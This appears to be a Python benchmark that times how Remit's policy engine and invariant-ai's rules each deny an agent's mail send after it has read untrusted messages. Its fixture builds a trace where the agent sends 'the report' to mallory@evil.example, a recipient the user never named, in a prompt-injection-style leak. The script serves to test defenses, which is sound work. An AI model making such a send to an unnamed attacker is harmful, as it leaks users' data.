"""A decision on where values come from beside the rules of invariant-ai, on the same trace.

The agent has read some mails and then sends one to somebody whom the user did not name. Each side
says no by a rule of its own; Remit's has read the mails before (``observe``), invariant-ai's reads
the whole trace anew at each call.
"""

from __future__ import annotations

import json
import subprocess
import time
from functools import partial
from pathlib import Path
from typing import Any

from benchmarks.measure import in_turn, line
from remit import policy
from remit.model import AccessRequest, Action, Effect, Facts, Session, SessionId
from remit.provenance.grounding import recalled, stored
from remit.provenance.memory import Memory, say
from remit.provenance.observing import Fields, observe

PEER = Path(__file__).parents[1] / ".bench-peers" / "invariant" / "bin" / "python"
SCRIPT = Path(__file__).parent / "peers" / "invariant_rules.py"
READ = (1, 10, 40)
"""How many mails were read before the call, each of 150 words."""
SAID = "Send the report to ada@corp.example"
CALL = {"to": "mallory@evil.example", "body": "Here is the report."}
POLICY = """
remit: 1
agents: {inventory-bot: {}}
tools:
  - {match: read_mail, does: read, returns: untrusted}
  - {match: send_mail, does: send, controls: {who: [args.to]}, sends: {what: [args.body]}}
rules:
  - {id: acts, tools: '*', effect: allow}
  - {id: named, tools: send_mail, after: untrusted, when: '!from_user(controls.who)', effect: deny}
"""


def run(mails: list[dict[str, Any]]) -> None:
    """Time one decision of each side after 1, 10 and 40 results.

    Args:
        mails: at least as many as are read.
    """
    print("\na decision after some results, beside the rules of invariant-ai on the same trace")
    policies = policy.load({"remit.yaml": POLICY})
    peer = _peer([_trace(mails[:count]) for count in READ])
    for index, count in enumerate(READ):
        memory, spent = say(Memory(), SAID), 0.0
        for mail in mails[:count]:
            start = time.perf_counter()
            memory = observe(memory, mail, {}, Fields(labels=("untrusted",)))
            spent += time.perf_counter() - start
        principal = policies.principal("inventory-bot")
        session = Session(
            id=SessionId("s"), principal=principal, started_at=0, labels=("untrusted",)
        )
        facts = Facts(now=0, session=session, provenance=recalled(stored(memory)))
        request = AccessRequest(
            principal=principal, session=session.id, action=Action(name="send_mail"), arguments=CALL
        )
        assert policy.decide(policies, request, facts).effect is Effect.DENY
        (figure,) = in_turn([partial(policy.decide, policies, request, facts)], samples=1000)
        line(f"remit, {count} mails read", figure)
        line("  reading one of them", f"{spent / count * 1e6:.0f} us, once")
        if peer is None:
            line("invariant-ai", "", "not measured: make bench-peers installs it")
            continue
        errors, median, slowest = peer[index]
        assert errors, "the peer's rule found nothing, so its time means nothing"
        told = f"p50 {median:9.2f} us   max {slowest:9.2f} us"
        line(f"invariant-ai, {count} mails read", told, f"{median / figure.p50:.0f} x remit's")


def _trace(mails: list[dict[str, Any]]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = [{"role": "user", "content": SAID}]
    for number, mail in enumerate(mails):
        found.append(_called(f"read-{number}", "read_mail", {"id": number}))
        result = {"role": "tool", "tool_call_id": f"read-{number}", "content": json.dumps(mail)}
        found.append(result)
    return [*found, _called("send", "send_mail", CALL)]


def _called(call_id: str, name: str, arguments: dict[str, Any]) -> dict[str, Any]:
    function = {"name": name, "arguments": arguments}
    call = {"id": call_id, "type": "function", "function": function}
    return {"role": "assistant", "content": "", "tool_calls": [call]}


def _peer(traces: list[list[dict[str, Any]]]) -> list[tuple[int, float, float]] | None:
    """What the peer found and took for each trace; None where it is not installed."""
    if not PEER.exists():
        return None
    answer = subprocess.run(
        [str(PEER), str(SCRIPT)],
        input=json.dumps(traces),
        check=True,
        capture_output=True,
        text=True,
    )
    return [(each[0], each[1], each[2]) for each in json.loads(answer.stdout)]
